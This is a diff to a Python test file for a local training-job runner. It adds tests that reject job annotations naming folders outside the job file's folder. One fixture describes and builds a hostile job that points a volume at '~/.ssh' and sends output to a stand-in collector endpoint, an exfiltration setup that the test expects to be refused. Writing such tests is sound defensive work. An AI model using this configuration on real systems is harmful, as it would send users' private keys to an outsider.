@@ -9,7 +9,9 @@ import pytest
 from bert_operator.local import commands
 from bert_operator.local.commands import container_env, launcher_command, s3_endpoint
 from bert_operator.local.runner import resumable
-from bert_operator.local.volumes import to_local
+from bert_operator.api.models import BertTrainingJob
+from bert_operator.api.parse import parse_job
+from bert_operator.local.volumes import LocalSetupError, to_local, volume_map
 from tests.local.helpers import INPUTS_ANNOTATION, TINY_INPUTS, condition, job_yaml, run_local, statuses, tiny_prepare_spec, write_jobs
 
 
@@ -47,7 +49,7 @@ def test_missing_vocab_names_the_field_the_uri_and_the_local_path(tmp_path: Path
     jobs = write_jobs(tmp_path / "j.yaml", job_yaml("records", spec, INPUTS_ANNOTATION))
     result = run_local(str(jobs), "--workdir", str(tmp_path / "w"), timeout=60)
     assert_clean_failure(result, 2, "spec.model.vocab: pvc://inputs/no-such-vocab.txt is "
-                         f"{TINY_INPUTS / 'no-such-vocab.txt'} locally (metadata.annotations[local.bertoperator.io/pvc.inputs])")
+                         f"{tmp_path.resolve() / 'tiny' / 'no-such-vocab.txt'} locally (metadata.annotations[local.bertoperator.io/pvc.inputs])")
     assert not (tmp_path / "w").exists()  # nothing started, nothing half-created
 
 
@@ -106,7 +108,43 @@ def test_a_suspended_job_runs_nothing_and_says_so(tmp_path: Path) -> None:
     assert not (tmp_path / "w" / "default" / "records" / "records-prepare.log").exists()
 
 
+def test_a_job_file_cannot_name_a_folder_outside_its_own(tmp_path: Path) -> None:
+    """A job file from someone else: `pvc.corpus: ~/.ssh` plus an output endpoint of its author's choosing would ship
+    a private key out with the user's keys. Refused before anything runs; --volume, the user's own word, still works."""
+    spec = tiny_prepare_spec()
+    spec["output"] = {"uri": "s3://collector/loot", "endpoint": "http://203.0.113.9:9000"}
+    jobs = write_jobs(tmp_path / "j.yaml", job_yaml("records", spec, {"local.bertoperator.io/pvc.inputs": "~/.ssh"}))
+    assert_clean_failure(run_local(str(jobs), "--workdir", str(tmp_path / "w"), timeout=60), 2,
+                         "metadata.annotations[local.bertoperator.io/pvc.inputs]: '~/.ssh' is not relative",
+                         "a folder inside the job file's folder", "--volume inputs=DIR")
+    assert not (tmp_path / "w").exists()
+
+
 # ---------------------------------------------------------------- the pieces, directly
+
+
+def annotated_job(value: str) -> BertTrainingJob:
+    return parse_job(job_yaml("records", tiny_prepare_spec(), {"local.bertoperator.io/pvc.inputs": value}))
+
+
+@pytest.mark.parametrize(("value", "says"), [
+    ("~/.ssh", "is not relative"), ("/etc", "is not relative"), ("../outside", "names a parent or hidden folder"),
+    ("tiny/../../outside", "names a parent or hidden folder"), (".ssh", "names a parent or hidden folder"),
+    ("link/inside", "outside"), ("", "is not relative"),
+])
+def test_an_annotation_may_only_name_a_folder_inside_the_files_folder(tmp_path: Path, value: str, says: str) -> None:
+    here = tmp_path / "jobs"
+    (here / "tiny").mkdir(parents=True)
+    (here / "link").symlink_to(tmp_path)  # a symlink out of the folder, as a checked-out repository may hold
+    with pytest.raises(LocalSetupError, match=r"metadata\.annotations\[local\.bertoperator\.io/pvc\.inputs\]: .*" + says):
+        volume_map(annotated_job(value), here, {}, tmp_path / "w", tmp_path / "w" / "j")
+    # the flag wins and the annotation is not looked at; from standard input no annotated folder is taken
+    assert volume_map(annotated_job(value), here, {"inputs": tmp_path}, tmp_path / "w", tmp_path / "w" / "j"
+                      ).claim_dir("inputs") == tmp_path.resolve()
+    with pytest.raises(LocalSetupError, match="standard input has no folder"):
+        volume_map(annotated_job("tiny"), None, {}, tmp_path / "w", tmp_path / "w" / "j")
+    assert volume_map(annotated_job("./tiny"), here, {}, tmp_path / "w", tmp_path / "w" / "j"
+                      ).claim_dir("inputs") == (here / "tiny").resolve()
 
 
 def test_mount_paths_map_to_folders_on_path_boundaries() -> None:
